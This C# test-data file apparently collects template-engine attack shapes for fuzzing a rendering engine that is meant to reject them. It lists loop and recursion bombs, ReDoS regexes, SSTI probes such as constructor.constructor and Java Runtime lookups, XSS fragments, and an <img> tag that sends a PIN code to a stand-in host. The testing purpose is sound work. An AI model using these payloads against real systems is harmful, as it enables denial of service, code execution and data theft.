using System.Text.Json;

namespace Rescue.Sessions.Reliability.Templates.Attack;

/// <summary>
/// The shapes that have brought template engines down: advisories of Scriban, Liquid and Handlebars, written in their own syntax and in
/// ours. Each is a small piece; what is big, deep or long is made by repeating it.
/// </summary>
internal static class TemplateShapes
{
    /// <summary>What other engines run, and this one must refuse without running any of it.</summary>
    public static IReadOnlyList<string> OfOtherEngines { get; } =
    [
        // Scriban: ranges and loops without end, big strings and lists, recursion, evaluation, regular expressions, reflection.
        "{{ for x in 1..1000000000 }}{{ x }}{{ end }}", "{{ for a in 1..10000; for b in 1..10000; a*b; end; end }}", "{{ while true }}x{{ end }}",
        "{{ 'a' * 1000000000 }}", "{{ x = 'aaaaaaaa'; for i in 1..30; x = x + x; end; x }}", "{{ 1 << 1000000000 }}", "{{ 2147483647 * 9999999999999999999 }}",
        "{{ [] | array.insert_at 1000000000 'x' }}", "{{ array.insert_at [] 2147483647 1 }}", "{{ (1..1000000000) | array.size }}",
        "{{ (1..100000) | array.join ',' }}", "{{ 'a' | string.pad_left 1000000000 }}", "{{ 'a' | string.pad_right 2147483647 }}",
        "{{ 'x' | string.append 'y' | string.replace '' 'zzzzzzzz' }}", "{{ func f; f; end; f }}", "{{ func f(x); f(x+x); end; f 'a' }}",
        "{{ func f }}{{ f }}{{ end }}{{ f }}", "{{ object.eval '1+1' }}", "{{ object.eval_template '{{ object.eval_template x }}' }}",
        "{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!' | regex.match '^(a+)+$' }}", "{{ regex.replace x '(.*)*(.*)*(.*)*' 'y' }}", "{{ include 'self' }}",
        "{{ a = {}; a.a = a; a }}", "{{ a.b.c.d.e.f.g.h }}", "{{ customer['name'] }}", "{{ customer?.name }}", "{{ this }}", "{{ wrap x }}{{ $ }}{{ end }}",
        "{{ capture x }}{{ x }}{{ x }}{{ end }}", "{{ case x }}{{ when 1 }}{{ end }}", "{{ tablerow x in 1..9 limit:999999999 }}{{ end }}",
        "{{ link.url | html.escape | html.escape }}", "{{ date.now | date.to_string '%1000000000Y' }}", "{{ 1e999999999 }}", "{{ 0x7fffffffffffffff + 1 }}",
        "{%{ {{ raw }} }%}", "{%%{ x }%%}", "{{ `verbatim` }}", "{{ $\"{link.url}\" }}", "{{ import x }}", "{{ readonly link }}", "{{ ret }}", "{{ break }}",
        // Liquid: the same by tags and filters.
        "{% for i in (1..1000000000) %}{{ i }}{% endfor %}", "{% for a in (1..99999) %}{% for b in (1..99999) %}x{% endfor %}{% endfor %}",
        "{% assign s = 'aaaa' %}{% assign s = s | append: s | append: s %}", "{% include 'self' %}", "{% render 'self' %}", "{% layout 'self' %}",
        "{% capture a %}{{ a }}{{ a }}{% endcapture %}", "{% tablerow i in (1..999999999) %}x{% endtablerow %}", "{% raw %}{{ link.url }}{% endraw %}",
        "{% comment %}{% comment %}", "{{ 'a' | times: 999999999 }}", "{{ x | slice: 0, 999999999 }}", "{{ x | split: '' | join: x | split: '' }}",
        "{{ '%' | date: '%9999999999d' }}", "{% cycle 'a', 'b' %}", "{% if a %}{% elsif b %}", "{%- liquid for i in (1..9999999) -%}", "{{ nil.size.first.last }}",
        // Handlebars: prototypes, constructors, helpers and partials.
        "{{#each this}}{{#each this}}{{#each this}}", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}{{/with}}",
        "{{constructor.constructor 'return process'}}", "{{__proto__.x}}", "{{lookup (lookup this 'constructor') 'name'}}", "{{#if __defineGetter__}}x{{/if}}",
        "{{> self}}", "{{#> layout}}{{/layout}}", "{{{link.url}}}", "{{&link.url}}", "{{{{raw}}}}{{{{/raw}}}}", "{{../../../../x}}", "{{@root.x}}", "{{[a b]}}",
        "{{#*inline 'x'}}{{> x}}{{/inline}}", "{{helperMissing}}", "{{blockHelperMissing}}", "{{log 'x' level='error'}}", "{{!-- x --}}", "{{^}}", "{{else}}{{/if}}",
        // What some engines still run inside text.
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(1+1)", "<#list 1..999999999 as x>", "#set($x='')", "[[${T(java.lang.Runtime)}]]",
    ];

    /// <summary>Pieces of the language and the markup that are worst when there are many of them.</summary>
    public static IReadOnlyList<string> OfThisLanguage { get; } =
    [
        "{{ if device.mobile }}", "{{ if (((((((device.mobile))))))) }}", "{{ else if pin.code == 'x' }}", "{{ else }}", "{{ end }}", "{{ if''}}{{end}}",
        "{{ link.url }}", "{{ customer.name }}", "{{ technician.name ?? technician.email ?? organization.name ?? 'x' }}", "{{ session.reference }}",
        "{{pin.code}}", "\n{{ pin.code }}\n", "\n{{ link.url }}\n", "{{ nobody }}", "{{ customer.nam }}", "{{ elsif }}", "customer.name", "''??", "''||!!", "''&&", "''==",
        "pin.code!=", "e??", "e==", "!", "!!!!", "((((", "))))", "{{", "}}", "{{{{", "}}}}", "{{-", "-}}", "{{~", "~}}", "{%{", "}%}", "{{ #", "{{ ## ", "##", "#", "\"", "'", "\\",
        "\\\"", "\\u0041", "\\x41", "\\q", "{{ \"\\n\\n\\n\\n\" }}", "{{ \"<a href='\" }}", "                ", "\t", "\n", "\r\n", "\r", "\0", "\u0085", "\u2028",
        "\u202E", "\uD83D", "\uDE00", "\uD83D\uDE00", "日本", "é", "a", "aaaaaaaaaaaaaaaa", "_", ".", "...", "a.", "0", "1", "&", "&amp;", "&#x6a;", "&#0;", "&lt;&gt;",
        "<", ">", "</", "/>", "<!--", "-->", "--!>", "<!", "<![CDATA[", "]]>", "<?", "<p>", "</p>", "<p ", "<p a=", "<p a=\"", "<p a='", "onx ", "<p onx=", "=", "<a href=\"{{ link.url }}\">x</a>",
        "<a href='", "<a href=javascript:", "<a href=\"https://example.org/?q={{ customer.name }}\">", "</a>", "<img src=\"https://x.example/{{ pin.code }}\">",
        "<img alt=\"{{ customer.name }}\">", "<style>", "</style>", "<style>*{display:none}</style>", "<p style=\"", "display:none;", "visibility:hidden", "font-size:0", "position:absolute;left:-9999px",
        "<p style=\"d\\69splay:none\">", "<div hidden>", "</div>", "<script>", "</script>", "<title>", "</title>", "<head>", "</head>", "<textarea>", "<svg onload=x>", "<form>",
        "<iframe srcdoc=\"", "<base href=//x>", "<meta http-equiv=refresh content=0>", "<table><tr><td>", "<xmp>", "<plaintext>", "<template>", "<select><option>",
    ];

    /// <summary>Whole templates that are accepted, to be damaged: text for the plain part, and markup.</summary>
    public static IReadOnlyList<string> Accepted { get; } =
    [
        "{{ link.url }}", "Hello {{ customer.name }},\n\n{{ link.url }}\n\n{{ pin.code }}\n",
        "{{ if device.mobile }}Tap {{ link.url }}{{ else if device.platform == 'macos' }}Open {{ link.url }}{{ else }}{{ link.url }}{{ end }}",
        "{{ technician.name ?? \"Support\" }}\n\n  {{ if session.reference -}}\n    {{ session.reference }}\n  {{~ end }}\n{{ link.url }}",
        "<p>{{ customer.name }}</p><a href=\"{{ link.url }}\">{{ if device.mobile }}Tap{{ else }}Press{{ end }}</a>",
        "{{ if device.mobile }}<b title='{{ customer.name }}'>{{ link.url }}</b>{{ else }}{{ link.url }}{{ end }}<!-- x -->",
        "<div style=\"color:red\">{{ technician.name ?? \"x\" }} {{ link.url }}</div><style>p{}</style>",
        "<html><head><title>{{ organization.name }}</title></head><body><table><tr><td><a href='{{ link.url }}'>Go</a></td></tr></table></body></html>",
        "<a href=\"https://example.org/?t={{ session.reference }}&n={{ customer.name }}\">x</a><p>{{ link.url }}</p>",
    ];

    /// <summary>The templates whose rendering is compared with Scriban's elsewhere.</summary>
    public static IReadOnlyList<string> OfReferenceCases { get; } = ReadReferenceCases();

    private static string[] ReadReferenceCases()
    {
        using var stream = typeof(TemplateShapes).Assembly.GetManifestResourceStream("scriban-cases.json")!;
        using var document = JsonDocument.Parse(stream);
        return [.. document.RootElement.GetProperty("cases").EnumerateArray().Select(each => each.GetProperty("template").GetString()!)];
    }
}
